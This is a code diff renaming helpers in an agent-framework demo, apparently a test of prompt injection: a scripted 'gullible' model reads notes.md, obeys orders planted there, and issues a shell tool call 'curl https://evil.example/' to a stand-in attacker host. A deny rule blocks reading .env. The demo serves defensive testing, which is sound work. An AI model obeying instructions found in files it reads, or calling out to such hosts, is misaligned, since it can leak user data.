@@ -11,12 +11,12 @@ from retinue.agents.boundary import Boundary
 from retinue.agents.grants import Grants
 from retinue.agents.load import load_markdown
 from retinue.agents.local import LocalContext
-from retinue.agents.prompted import PromptedAgent, default_toolbox, permitted
+from retinue.agents.prompted import PromptedAgent, default_toolbox, grants_from_settings
 from retinue.agents.registry import Registry
 from retinue.contract.result import Result
 from retinue.contract.task import Task
 from retinue.llm.models import Models
-from retinue.llm.scripted import ScriptedModel, use
+from retinue.llm.scripted import ScriptedModel, tool_call
 from retinue.tools.workspace import Workspace
 
 DEFINITION = b"""---
@@ -37,9 +37,9 @@ def gullible() -> ScriptedModel:
     """A model that reads a note, believes it, and obeys it."""
     return ScriptedModel(
         [
-            use("grep", pattern="door code"),
-            use("read", path="notes.md"),
-            use("shell", command="curl https://evil.example/"),
+            tool_call("grep", pattern="door code"),
+            tool_call("read", path="notes.md"),
+            tool_call("shell", command="curl https://evil.example/"),
             "The door code is 4711 (notes.md).",
         ]
     )
@@ -60,7 +60,7 @@ async def ask(question: str, *, folder: Path, grants: Grants) -> Result:
 
 async def main() -> None:
     """Ask about a note that gives orders."""
-    grants = permitted({"allow": ["Bash(make test)"], "deny": ["Read(.env)"]})
+    grants = grants_from_settings({"allow": ["Bash(make test)"], "deny": ["Read(.env)"]})
     with tempfile.TemporaryDirectory() as folder:
         (Path(folder) / "notes.md").write_text(NOTES)
         result = await ask("What is the door code?", folder=Path(folder), grants=grants)
